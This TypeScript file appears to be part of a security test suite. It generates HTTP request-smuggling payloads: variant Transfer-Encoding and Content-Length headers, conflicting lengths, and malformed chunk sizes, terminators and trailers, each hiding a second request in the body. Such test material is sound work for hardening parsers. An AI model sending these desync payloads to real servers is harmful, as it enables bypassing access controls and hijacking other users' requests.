/** Attacks that make parsers disagree about where a body ends: Transfer-Encoding, Content-Length and chunks. */
import { type Attack, animal, type Kit } from './raw-attacks-kit.ts';
import { texts, words } from './words.ts';

const n = animal.length;
/** The chunk size of `animal`, in hexadecimal. */
const size = n.toString(16);

const codingValues = [
  ...words`chunked Chunked CHUNKED xchunked chunkedx identity "chunked" chunked;q=1 , chunked, ,chunked cow`,
  ...texts('chunked, identity|identity, chunked|gzip, chunked|chunked, gzip|chunked, chunked'),
  ...texts('chunked ;a|\x0bchunked|\x0cchunked|\tchunked\t|chunked\0|\0chunked||chun ked|\xa0chunked'),
  ...texts('chunked\x85'),
];

const codingNames = [
  ...texts('Transfer-Encoding|TRANSFER-ENCODING|Transfer-Encoding |Transfer-Encoding\t'),
  ...texts(' Transfer-Encoding|\tTransfer-Encoding|Transfer_Encoding|Transfer Encoding'),
  ...texts('X: a\nTransfer-Encoding|X: a\rTransfer-Encoding|Transfer-Encoding\0|\0Transfer-Encoding'),
  ...texts('Transfer\u00adEncoding|X:\r\n Transfer-Encoding|"Transfer-Encoding"'),
];

/**
 * Different spellings of Transfer-Encoding, with and without Content-Length. A request is hidden in the part that only
 * one of two parsers treats as the body.
 */
export function codings({ post, secret }: Kit): Attack[] {
  const ended = `0\r\n\r\n${secret}`;
  const lines = [
    ...codingValues.map((value) => `Transfer-Encoding: ${value}\r\n`),
    ...codingNames.map((name) => `${name}: chunked\r\n`),
  ];
  return lines.flatMap((line) => [
    { what: `${JSON.stringify(line)} alone`, bytes: post(line, ended) },
    {
      what: `${JSON.stringify(line)} after a length of everything`,
      bytes: post(`Content-Length: ${ended.length}\r\n${line}`, ended),
    },
    {
      what: `${JSON.stringify(line)} before a length of 5`,
      bytes: post(`${line}Content-Length: 5\r\n`, ended),
    },
  ]);
}

const lengthValues = [
  ...texts(`+${n}|-${n}|0${n}|00000000000000000000${n}|${n}, ${n}|${n},${n}|${n}, 0|0, ${n}|0x1b|2.7e1`),
  ...texts('27.0|27 27|27;a|27\0|\x0b27|27\x0c|2_7|٢٧||-0|18446744073709551616|18446744073709551643'),
  ...texts('4294967323|99999999999999999999999|NaN|"27"'),
];

/** Different spellings of Content-Length, with and without a body of that length. */
export function lengths({ post, request, secret }: Kit): Attack[] {
  const spelled = lengthValues.map((value) => ({
    what: `Content-Length: ${value}`,
    bytes: post(`Content-Length: ${value}\r\n`, animal + secret),
  }));
  const pairs = [
    [n, n],
    [n, 0],
    [0, n],
    [n, n + secret.length],
    [n + secret.length, n],
    [5, 6],
  ].map(([one, two]) => ({
    what: `Content-Length ${one} and ${two}`,
    bytes: post(`Content-Length: ${one}\r\nContent-Length: ${two}\r\n`, animal + secret),
  }));
  const names = [
    ...texts('Content-Length | Content-Length|Content_Length|Content Length|Content-Length\t'),
    ...texts('X: a\nContent-Length|X: a\rContent-Length'),
  ].map((name) => ({
    what: `${JSON.stringify(name)} as the name`,
    bytes: post(`${name}: ${secret.length}\r\n`, secret),
  }));
  const chunked = `${secret.length.toString(16)}\r\n${secret}\r\n0\r\n\r\n`;
  const reads = words`GET HEAD DELETE OPTIONS PUT TRACE`.flatMap((method) => {
    const sent = (headers: string, body: string) => request(`${method} /v1/pets/0`, headers, body);
    return [
      { what: `a body on ${method}`, bytes: sent(`Content-Length: ${secret.length}\r\n`, secret) },
      { what: `a chunked body on ${method}`, bytes: sent('Transfer-Encoding: chunked\r\n', chunked) },
      { what: `no length on ${method}, but a body`, bytes: sent('', secret) },
    ];
  });
  return [...spelled, ...pairs, ...names, ...reads];
}

const chunkSizes = [
  ...texts(`0x${size}|+${size}|-${size}| ${size}|${size} |${size}\t|0${size}|${'0'.repeat(15)}${size}`),
  ...texts(`${'0'.repeat(40)}${size}|${size};a|${size};a=b|${size};a="b"|${size};a="\r\n"|${size} ;a`),
  ...texts(`${size};|${size};;|${size};\x00|${size}\0|1${'0'.repeat(16)}${size}|ffffffffffffffff`),
  ...texts(`fffffffffffffffe|7fffffffffffffff|80000000000000${size}|1_b|${size}h|g||;|${size},${size}`),
  ...texts(`${size}\n|${size};a\n|\n${size}|\r\n${size}|${size};${'a'.repeat(20_000)}`),
];

const lastChunks = [
  ...texts('0\n\n|0\r\n\n|0\n\r\n|00\r\n\r\n|000000000000000000000\r\n\r\n|0;a\r\n\r\n|0;a=b\r\n\r\n'),
  ...texts('0 \r\n\r\n|-0\r\n\r\n|0x0\r\n\r\n|0\r\nX\r\n\r\n|0\r\n X: a\r\n\r\n|0\r\nX: a\n\r\n'),
  ...texts('0\r\nX: a\r\n\r\n|0\r\nContent-Length: 5\r\n\r\n|0\r\nTransfer-Encoding: chunked\r\n\r\n'),
  ...texts('0\r\nAuthorization: Bearer x\r\n\r\n|0\r\nHost: b\r\n\r\n|0\r\n\r\nX|0\r\n\r\r\n|0\r\n'),
];

/**
 * Chunk sizes, terminators and trailers, each followed by a request that only one of two parsers treats as part of the
 * body.
 */
export function chunks({ post, secret }: Kit): Attack[] {
  const coded = (body: string) => post('Transfer-Encoding: chunked\r\n', body);
  const first = chunkSizes.map((text) => ({
    what: `the chunk size ${JSON.stringify(text.slice(0, 30))}`,
    bytes: coded(`${text}\r\n${animal}\r\n0\r\n\r\n${secret}`),
  }));
  const whole = `${size}\r\n${animal}`;
  const ends = ['\n', '', '\r', 'X', '\r\r\n', '\r\nX', '  \r\n', 'XX', '\0\0', '\n\n'].map((end) => ({
    what: `${JSON.stringify(end)} after the data of a chunk`,
    bytes: coded(`${whole}${end}0\r\n\r\n${secret}`),
  }));
  const finals = lastChunks.map((end) => ({
    what: `${JSON.stringify(end)} as the last chunk`,
    bytes: coded(`${whole}\r\n${end}${secret}`),
  }));
  const hiddenInside = {
    what: 'a request as the data of a chunk',
    bytes: coded(`${secret.length.toString(16)}\r\n${secret}\r\n0\r\n\r\n`),
  };
  const tooSmall = { what: 'a chunk longer than its size', bytes: coded(`5\r\n${secret}\r\n0\r\n\r\n`) };
  return [...first, ...ends, ...finals, hiddenInside, tooSmall];
}
